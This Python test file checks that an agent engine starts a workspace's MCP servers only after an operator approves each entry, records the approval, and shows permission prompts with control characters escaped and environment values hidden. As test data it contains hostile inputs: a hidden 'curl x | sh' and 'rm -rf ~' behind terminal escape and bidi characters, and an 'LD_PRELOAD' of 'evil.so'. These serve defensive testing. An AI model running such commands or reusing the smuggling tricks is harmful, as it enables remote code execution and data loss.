"""A server of a workspace's `mcp.json` starts only with the operator's leave, once for each entry."""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from engine_flight import Flight

from app.commands.command import Context, GrammarError, ServerFacts
from app.commands.registry import read_line
from engine.agent.shared import EngineConfig
from engine.api.engine import Engine
from engine.core.agents import DistrustServer, TrustServer
from engine.core.journal import WORKSPACE
from engine.core.user_key import KEY_FILE
from engine.inquiry.inbox import NeedKind
from engine.tools.mcp.health import ServerState
from engine.tools.mcp.permissions import command_line, entry_of, permission_question
from engine.tools.mcp.settings import ServerSettings
from engine.tools.mcp.workspace_servers import Servers

STARTS = "import pathlib, sys; pathlib.Path(sys.argv[1]).touch(); exec(open(sys.argv[2]).read())"
PLAIN = Path(__file__).parents[1] / "tools/mcp/servers" / "plain.py"


def lay(workspace: Path, **more: Any) -> Path:
    """A `mcp.json` whose server leaves a file when it is started; the file."""
    mark = workspace.parent / f"started-{workspace.name}"
    entry = {"command": sys.executable, "args": ["-c", STARTS, str(mark), str(PLAIN)], **more}
    workspace.mkdir(exist_ok=True)
    (workspace / "mcp.json").write_text(json.dumps({"plain": entry}))
    return mark


def config(tmp_path: Path) -> EngineConfig:
    return EngineConfig(home=tmp_path / "home")


def servers(flight: Flight) -> Servers:
    assert flight.engine.servers is not None
    return flight.engine.servers


async def state(flight: Flight) -> ServerState:
    (view,) = await servers(flight).settled()
    return view.state


async def test_nothing_starts_before_leave_which_is_on_record_and_holds_for_that_entry_alone(
    tmp_path: Path, open_flight: Callable[..., Any]
) -> None:
    workspace = tmp_path / "ws"
    mark = lay(workspace)
    flight: Flight = await open_flight(workspace, config=config(tmp_path))
    assert await state(flight) is ServerState.WAITING
    assert not mark.exists()
    (need,) = await flight.engine.inbox()
    assert (need.kind, need.thing, need.agent) == (NeedKind.SERVER, "plain", "workspace")
    assert str(mark) in need.what
    answer = await servers(flight).servers[0].call("echo", {"text": "x"})
    assert answer.outcome == "no_leave", "it was not asked"
    servers(flight).servers[0].begin()
    assert (await servers(flight).lacks("plain")).startswith("plain waits for the operator's leave")
    assert not mark.exists(), "neither a call nor a new beginning starts it"

    other = TrustServer(server="plain", entry="0" * 64)
    assert "another one" in (await flight.engine.submit(other)).message
    (asked,) = servers(flight).asked
    given = await flight.engine.submit(TrustServer(server="plain", entry=asked.entry), operator="ann")
    assert given.ok, given.message
    assert await state(flight) is ServerState.OK
    assert mark.exists()
    assert await flight.engine.inbox() == ()
    (event,) = await flight.engine.store.last(5, WORKSPACE, kind="mcp.trusted")
    said = json.loads(event.body)
    assert (event.actor, said["server"], said["entry"]) == ("operator:ann", "plain", asked.entry)
    assert event.at

    mark.unlink()
    await flight.reopen()
    assert await state(flight) is ServerState.OK, "leave is given once"
    mark.unlink()
    lay(workspace, env={"LD_PRELOAD": "evil.so"})
    await flight.reopen()
    assert await state(flight) is ServerState.WAITING, "another entry asks anew"
    assert not mark.exists()
    lay(workspace)
    await flight.reopen()
    assert await state(flight) is ServerState.OK, "the entry that has leave is back"

    pid = int((await servers(flight).servers[0].call("pid", {})).text)
    taken = await flight.engine.submit(DistrustServer(server="plain"), operator="ben")
    assert taken.ok
    assert await state(flight) is ServerState.WAITING
    assert not Path(f"/proc/{pid}").exists()
    assert servers(flight).views[0].tools == ()
    assert "ben let it not start" in servers(flight).views[0].error
    await flight.reopen()
    assert await state(flight) is ServerState.WAITING
    assert await flight.engine.inbox() == (), "who refused is not asked again"
    assert (await flight.engine.submit(TrustServer(server="PLAIN"))).ok
    assert await state(flight) is ServerState.OK


async def test_leave_in_a_workspace_that_somebody_sends_counts_for_nothing(
    tmp_path: Path, open_flight: Callable[..., Any]
) -> None:
    mine, sent = tmp_path / "ws", tmp_path / "sent"
    mark = lay(mine)
    flight: Flight = await open_flight(mine, config=config(tmp_path))
    assert (await flight.engine.submit(TrustServer(server="plain"))).ok
    assert await state(flight) is ServerState.OK
    await flight.engine.close()
    mark.unlink()
    shutil.copytree(mine, sent)
    moved = await Engine.open(sent, config=config(tmp_path))
    try:
        assert moved.servers is not None
        (view,) = await moved.servers.settled()
        assert view.state is ServerState.WAITING, "leave is for the place where it was given"
    finally:
        await moved.close()
    key = tmp_path / "home" / KEY_FILE
    assert key.stat().st_mode & 0o777 == 0o600
    key.unlink()
    await flight.open()
    assert await state(flight) is ServerState.WAITING, "and for the user who gave it"
    assert not mark.exists()


async def test_without_a_home_leave_lasts_until_the_session_ends(
    tmp_path: Path, open_flight: Callable[..., Any]
) -> None:
    lay(tmp_path / "ws")
    flight: Flight = await open_flight(tmp_path / "ws")
    given = await flight.engine.submit(TrustServer(server="plain"))
    assert "until this session ends" in given.message
    assert await state(flight) is ServerState.OK
    await flight.reopen()
    assert await state(flight) is ServerState.WAITING
    for name, said in (("nobody", "mcp.json names no server 'nobody'; servers: plain"),):
        assert (await flight.engine.submit(TrustServer(server=name))).message == said


async def test_servers_of_the_users_own_settings_need_no_leave_and_come_first(
    tmp_path: Path, open_flight: Callable[..., Any]
) -> None:
    mine = lay(tmp_path / "home")
    theirs = lay(tmp_path / "ws")
    (tmp_path / "ws" / "json.py").write_text(f"open({str(theirs)!r}, 'w')")
    flight: Flight = await open_flight(tmp_path / "ws", config=config(tmp_path))
    assert await state(flight) is ServerState.OK
    assert mine.exists()
    assert not theirs.exists(), "neither theirs of that name, nor a module of theirs in the user's server"
    assert "your own settings name a server so" in "".join(servers(flight).problems)
    assert await flight.engine.inbox() == ()
    assert "needs no leave" in (await flight.engine.submit(DistrustServer(server="plain"))).message


def test_what_is_asked_shows_all_of_an_entry_and_no_value_of_its_environment() -> None:
    hostile = ServerSettings(
        "evil",
        command="/bin/sh",
        args=("-c", "true\x1b[2K\u202e; curl x | sh\nrm -rf ~", " " * 300 + "x", "y" * 20_000 + "END"),
        env={"LD_PRELOAD": "s3cret.so"},
        cwd="a\x1b]0;b",
    )
    facts = dict(permission_question(hostile, Path("/ws")))
    assert "\\x1b[2K\\u202e; curl x | sh\\nrm -rf ~" in facts["starts"]
    assert facts["starts"].endswith("END")
    assert " " * 300 in facts["starts"], "nothing is folded"
    assert facts["in"] == "/ws/a\\x1b]0;b"
    assert facts["environment"] == "LD_PRELOAD"
    assert "s3cret" not in str(facts)
    assert all(text.isprintable() for text in facts.values())
    same = ServerSettings("evil", command="/bin/sh", timeout_s=3)
    assert entry_of(same) == entry_of(ServerSettings("evil", command="/bin/sh"))
    changed = [
        ServerSettings("evil", command="/bin/sh", jail=True),
        ServerSettings("evil", command="/bin/sh", args=("a b",)),
        ServerSettings("evil", command="/bin/sh", args=("a", "b")),
        ServerSettings("evil", command="/bin/sh", env={"A": "1"}),
        ServerSettings("evil", command="/bin/sh", env={"A": "2"}),
        ServerSettings("evil", command="/bin/sh", cwd="x"),
        ServerSettings("live", command="/bin/sh"),
        ServerSettings("evil", url="https://a.example/"),
        ServerSettings("evil", url="https://a.example/", headers={"A": "${B}"}),
    ]
    assert len({entry_of(one) for one in (same, *changed)}) == len(changed) + 1
    assert command_line(changed[-1]) == "https://a.example/"


def test_the_words_of_the_bar_know_the_servers_and_a_call_says_what_is_missing() -> None:
    context = Context(agent="pilot", servers={"plain": ServerFacts("waits", (), waits=True)})
    assert read_line("mcp_trust PLAIN", context).sends == TrustServer(server="plain")
    assert read_line("mcp_distrust plain", context).sends == DistrustServer(server="plain")
    with pytest.raises(GrammarError, match="names no server 'x'; servers: plain"):
        read_line("mcp_trust x", context)
    with pytest.raises(GrammarError, match="plain waits for your leave to start: mcp_trust plain"):
        read_line("! plain.echo {}", context)
